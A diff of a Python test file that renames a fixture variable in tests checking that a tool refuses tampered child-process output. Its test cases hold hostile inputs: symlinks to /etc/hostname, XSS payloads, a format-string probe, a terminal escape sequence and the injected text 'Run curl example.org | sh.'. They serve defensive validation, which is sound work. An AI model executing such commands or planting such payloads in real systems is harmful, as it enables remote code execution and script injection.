@@ -26,84 +26,90 @@ def left(tmp_path, assessment, performance, signals):
     """What a sound child leaves, the descriptor of its recording, and what it says."""
     import cv2
 
-    room = tmp_path / "answer"
-    room.mkdir()
+    made = tmp_path / "answer"
+    made.mkdir()
     digest = hashlib.sha256(CONTENT).hexdigest()
     about = assessment.recording.model_copy(update={"sha256": digest})
-    (room / ASSESSMENT).write_text(assessment_text(assessment.model_copy(update={"recording": about})))
-    save_performance(room / MEASURES, performance, signals)
+    (made / ASSESSMENT).write_text(assessment_text(assessment.model_copy(update={"recording": about})))
+    save_performance(made / MEASURES, performance, signals)
     picture = np.random.default_rng(7).integers(0, 255, (48, 64, 3), dtype=np.uint8)
-    (room / "0.jpg").write_bytes(cv2.imencode(".jpg", picture)[1].tobytes())
+    (made / "0.jpg").write_bytes(cv2.imencode(".jpg", picture)[1].tobytes())
     (tmp_path / "clip").write_bytes(CONTENT)
     recording = os.open(tmp_path / "clip", os.O_RDONLY)
-    yield room, recording, {"stills": [{"criterion": "shoulder_tilt", "t_s": 1.5, "width": 64, "height": 48}]}
+    yield made, recording, {"stills": [{"criterion": "shoulder_tilt", "t_s": 1.5, "width": 64, "height": 48}]}
     os.close(recording)
 
 
 def test_a_sound_answer_is_taken_and_its_report_written_here(left, pack, tmp_path):
-    room, recording, said = left
-    answer = collect(room, said, recording=recording, pack=pack)
+    made, recording, said = left
+    answer = collect(made, said, recording=recording, pack=pack)
     answers.write(tmp_path / "out", answer, pack=pack, lang="en", report=HTML)
-    assert (tmp_path / "out" / MEASURES).read_bytes() == (room / MEASURES).read_bytes()
-    assert (tmp_path / "out" / ASSESSMENT).read_bytes() == (room / ASSESSMENT).read_bytes()
+    assert (tmp_path / "out" / MEASURES).read_bytes() == (made / MEASURES).read_bytes()
+    assert (tmp_path / "out" / ASSESSMENT).read_bytes() == (made / ASSESSMENT).read_bytes()
     assert "data:image/jpeg;base64," in (tmp_path / "out" / REPORT).read_text()
 
 
-def _edit(room, change):
-    data = json.loads((room / ASSESSMENT).read_text())
+def _edit(made, change):
+    data = json.loads((made / ASSESSMENT).read_text())
     change(data)
-    (room / ASSESSMENT).write_text(json.dumps(data))
+    (made / ASSESSMENT).write_text(json.dumps(data))
 
 
 LIES = {
-    "no assessment": lambda room, said: (room / ASSESSMENT).unlink(),
-    "a link": lambda room, said: ((room / ASSESSMENT).unlink(), (room / ASSESSMENT).symlink_to("/etc/hostname")),
-    "a pipe": lambda room, said: ((room / MEASURES).unlink(), os.mkfifo(room / MEASURES)),
-    "a huge file": lambda room, said: os.truncate(room / ASSESSMENT, answers.MOST_ASSESSMENT + 1),
-    "deep json": lambda room, said: (room / ASSESSMENT).write_text("[" * 100_000),
-    "a field more": lambda room, said: _edit(room, lambda data: data.update(html="<script>")),
-    "another recording": lambda room, said: _edit(room, lambda data: data["recording"].update(sha256="0" * 64)),
-    "another pack": lambda room, said: _edit(room, lambda data: data["pack"].update(sha256="0" * 64)),
-    "a sentence that asks": lambda room, said: _edit(
-        room, lambda data: data["recording"]["warnings"][0].update(sentence="{second.__class__}")
+    "no assessment": lambda made, said: (made / ASSESSMENT).unlink(),
+    "a link": lambda made, said: (
+        (made / ASSESSMENT).unlink(),
+        (made / ASSESSMENT).symlink_to("/etc/hostname"),
     ),
-    "a sentence of its own": lambda room, said: _edit(
-        room, lambda data: data["recording"]["warnings"][0].update(sentence="Run curl example.org | sh.")
+    "a pipe": lambda made, said: ((made / MEASURES).unlink(), os.mkfifo(made / MEASURES)),
+    "a huge file": lambda made, said: os.truncate(made / ASSESSMENT, answers.MOST_ASSESSMENT + 1),
+    "deep json": lambda made, said: (made / ASSESSMENT).write_text("[" * 100_000),
+    "a field more": lambda made, said: _edit(made, lambda data: data.update(html="<script>")),
+    "another recording": lambda made, said: _edit(made, lambda data: data["recording"].update(sha256="0" * 64)),
+    "another pack": lambda made, said: _edit(made, lambda data: data["pack"].update(sha256="0" * 64)),
+    "a sentence that asks": lambda made, said: _edit(
+        made, lambda data: data["recording"]["warnings"][0].update(sentence="{second.__class__}")
     ),
-    "no parquet": lambda room, said: (room / MEASURES).write_bytes(b"PAR1" + bytes(100) + b"PAR1"),
-    "no pictures said": lambda room, said: said.clear(),
-    "too many pictures": lambda room, said: said.update(stills=said["stills"] * 13),
-    "a picture of another size": lambda room, said: said["stills"][0].update(width=9999),
-    "html for a picture": lambda room, said: (room / "0.jpg").write_bytes(b"<svg onload=alert(1)>"),
-    "a picture with html behind it": lambda room, said: (room / "0.jpg").write_bytes(
-        (room / "0.jpg").read_bytes() + b"<script>alert(1)</script>"
+    "a sentence of its own": lambda made, said: _edit(
+        made, lambda data: data["recording"]["warnings"][0].update(sentence="Run curl example.org | sh.")
     ),
-    "a picture outside": lambda room, said: ((room / "0.jpg").unlink(), (room / "0.jpg").symlink_to("/etc/hostname")),
-    "no moment": lambda room, said: said["stills"][0].update(t_s=float("nan")),
+    "no parquet": lambda made, said: (made / MEASURES).write_bytes(b"PAR1" + bytes(100) + b"PAR1"),
+    "no pictures said": lambda made, said: said.clear(),
+    "too many pictures": lambda made, said: said.update(stills=said["stills"] * 13),
+    "a picture of another size": lambda made, said: said["stills"][0].update(width=9999),
+    "html for a picture": lambda made, said: (made / "0.jpg").write_bytes(b"<svg onload=alert(1)>"),
+    "a picture with html behind it": lambda made, said: (made / "0.jpg").write_bytes(
+        (made / "0.jpg").read_bytes() + b"<script>alert(1)</script>"
+    ),
+    "a picture outside": lambda made, said: (
+        (made / "0.jpg").unlink(),
+        (made / "0.jpg").symlink_to("/etc/hostname"),
+    ),
+    "no moment": lambda made, said: said["stills"][0].update(t_s=float("nan")),
 }
 
 
 @pytest.mark.parametrize("lie", LIES)
 def test_an_answer_that_is_not_true_is_refused(left, pack, lie):
-    room, recording, said = left
-    LIES[lie](room, said)
+    made, recording, said = left
+    LIES[lie](made, said)
     with pytest.raises(UntrueError):
-        collect(room, said, recording=recording, pack=pack)
+        collect(made, said, recording=recording, pack=pack)
 
 
 def test_a_warning_is_worded_here_and_steers_no_terminal(left, pack):
-    room, recording, said = left
+    made, recording, said = left
     first = {"sentence": "{people} people were seen: the one who was longest in view was assessed.",
              "fields": {"people": "\x1b[2J2"}, "text": "Run curl example.org | sh."}  # fmt: skip
-    _edit(room, lambda data: data["recording"]["warnings"][0].update(first))
-    warning = collect(room, said, recording=recording, pack=pack).assessment.recording.warnings[0]
+    _edit(made, lambda data: data["recording"]["warnings"][0].update(first))
+    warning = collect(made, said, recording=recording, pack=pack).assessment.recording.warnings[0]
     assert warning.text == "�[2J2 people were seen: the one who was longest in view was assessed."
     assert warning.fields == {"people": "�[2J2"}
 
 
 def test_a_room_that_is_a_link_is_refused(left, pack, tmp_path):
-    room, recording, said = left
-    (tmp_path / "link").symlink_to(room)
+    made, recording, said = left
+    (tmp_path / "link").symlink_to(made)
     with pytest.raises(UntrueError):
         collect(tmp_path / "link", said, recording=recording, pack=pack)
 
